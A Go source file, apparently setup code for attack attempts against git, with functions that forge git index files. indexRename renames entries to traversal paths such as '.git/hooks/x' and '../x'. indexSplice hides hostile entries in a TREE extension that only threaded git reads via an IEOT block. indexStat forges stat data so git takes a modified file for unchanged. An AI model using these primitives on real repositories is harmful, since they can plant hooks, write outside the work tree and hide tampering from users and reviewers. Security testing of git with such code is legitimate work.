package main

import (
	"bytes"
	"crypto/sha1"
	"encoding/binary"
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"
)

// indexRename renames the entry from of the git index at path to to, a
// name of the same length git itself would never add (".git/hooks/x",
// "../x", "/abs"), and writes the index's SHA-1 checksum again: what any
// command can do to an index, with no git. A failure is one of the attempt's setup.
func indexRename(path, from, to string) error {
	if len(from) != len(to) {
		return fmt.Errorf("%q and %q differ in length", from, to)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if len(b) < sha1.Size {
		return fmt.Errorf("%s is too short for an index", path)
	}
	body := b[:len(b)-sha1.Size]
	old := append([]byte(from), 0)
	if bytes.Count(body, old) != 1 {
		return fmt.Errorf("%q is not once in %s", from, path)
	}
	body = bytes.Replace(body, old, append([]byte(to), 0), 1)
	sum := sha1.Sum(body)
	return os.WriteFile(path, append(body, sum[:]...), 0o644)
}

// indexSplice writes out: benign's header and entries, which git reads
// one after the other, then hostile's entries hidden in a cache-tree
// extension after a valid root, an IEOT extension whose one block points
// at them, and an EOIE extension: git reading with threads
// (index.threads) takes its entries from the IEOT block. Both must be
// index version 2, of as many entries.
func indexSplice(benign, hostile, out string) error {
	entries := func(path string) ([]byte, uint32, int, error) {
		d, err := os.ReadFile(path)
		if err != nil {
			return nil, 0, 0, err
		}
		if len(d) < 12 || string(d[:4]) != "DIRC" || binary.BigEndian.Uint32(d[4:8]) != 2 {
			return nil, 0, 0, fmt.Errorf("%s: not an index of version 2", path)
		}
		n := binary.BigEndian.Uint32(d[8:12])
		off := 12
		for range n {
			if off+62 > len(d) {
				return nil, 0, 0, fmt.Errorf("%s: truncated", path)
			}
			hdr := 62
			if binary.BigEndian.Uint16(d[off+60:off+62])&0x4000 != 0 {
				hdr += 2
			}
			nl := bytes.IndexByte(d[off+hdr:], 0)
			if nl < 0 {
				return nil, 0, 0, fmt.Errorf("%s: truncated", path)
			}
			off += (hdr + nl + 8) &^ 7
		}
		return d, n, off, nil
	}
	b, bn, boff, err := entries(benign)
	if err != nil {
		return err
	}
	h, hn, hoff, err := entries(hostile)
	if err != nil {
		return err
	}
	if bn != hn {
		return fmt.Errorf("%d and %d entries", bn, hn)
	}
	ext := func(sig string, payload []byte) []byte {
		x := append([]byte(sig), 0, 0, 0, 0)
		binary.BigEndian.PutUint32(x[4:], uint32(len(payload)))
		return append(x, payload...)
	}
	o := append([]byte(nil), b[:boff]...)
	start := len(o)
	pre := []byte("\x00-1 0\n")
	tree := ext("TREE", append(append([]byte(nil), pre...), h[12:hoff]...))
	var p [12]byte
	binary.BigEndian.PutUint32(p[0:], 1)
	binary.BigEndian.PutUint32(p[4:], uint32(start+8+len(pre)))
	binary.BigEndian.PutUint32(p[8:], hn)
	ieot := ext("IEOT", p[:])
	o = append(append(o, tree...), ieot...)
	hh := sha1.New()
	hh.Write(tree[:8])
	hh.Write(ieot[:8])
	var eoie [4]byte
	binary.BigEndian.PutUint32(eoie[:], uint32(start))
	o = append(o, ext("EOIE", append(eoie[:], hh.Sum(nil)...))...)
	sum := sha1.Sum(o)
	return os.WriteFile(out, append(o, sum[:]...), 0o644)
}

// indexStat makes the entry name of the git index at path claim the
// stat data of the work tree file name (relative to the current
// directory) as it is now, keeping the entry's object id, and writes the
// index's checksum again: git then trusts the stat data and takes the
// file for unchanged, whatever it holds. The file's mtime is first set
// ten seconds back, so that the index, written after it, does not look
// racily clean to git (which would compare the content). Version 2 or 3.
func indexStat(path, name string) error {
	past := time.Now().Add(-10 * time.Second)
	if err := os.Chtimes(name, past, past); err != nil {
		return err
	}
	var st unix.Stat_t
	if err := unix.Lstat(name, &st); err != nil {
		return err
	}
	d, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if len(d) < 12+sha1.Size || string(d[:4]) != "DIRC" {
		return fmt.Errorf("%s: not an index", path)
	}
	if v := binary.BigEndian.Uint32(d[4:8]); v != 2 && v != 3 {
		return fmt.Errorf("%s: index version %d", path, v)
	}
	n := binary.BigEndian.Uint32(d[8:12])
	off := 12
	for range n {
		if off+62 > len(d) {
			return fmt.Errorf("%s: truncated", path)
		}
		hdr := 62
		if binary.BigEndian.Uint16(d[off+60:off+62])&0x4000 != 0 {
			hdr += 2
		}
		nl := bytes.IndexByte(d[off+hdr:], 0)
		if nl < 0 {
			return fmt.Errorf("%s: truncated", path)
		}
		if string(d[off+hdr:off+hdr+nl]) == name {
			be := binary.BigEndian
			be.PutUint32(d[off:], uint32(st.Ctim.Sec))
			be.PutUint32(d[off+4:], uint32(st.Ctim.Nsec))
			be.PutUint32(d[off+8:], uint32(st.Mtim.Sec))
			be.PutUint32(d[off+12:], uint32(st.Mtim.Nsec))
			be.PutUint32(d[off+16:], uint32(st.Dev))
			be.PutUint32(d[off+20:], uint32(st.Ino))
			be.PutUint32(d[off+28:], st.Uid)
			be.PutUint32(d[off+32:], st.Gid)
			be.PutUint32(d[off+36:], uint32(st.Size))
			body := d[:len(d)-sha1.Size]
			sum := sha1.Sum(body)
			return os.WriteFile(path, append(body, sum[:]...), 0o644)
		}
		off += (hdr + nl + 8) &^ 7
	}
	return fmt.Errorf("%s: no entry %q", path, name)
}
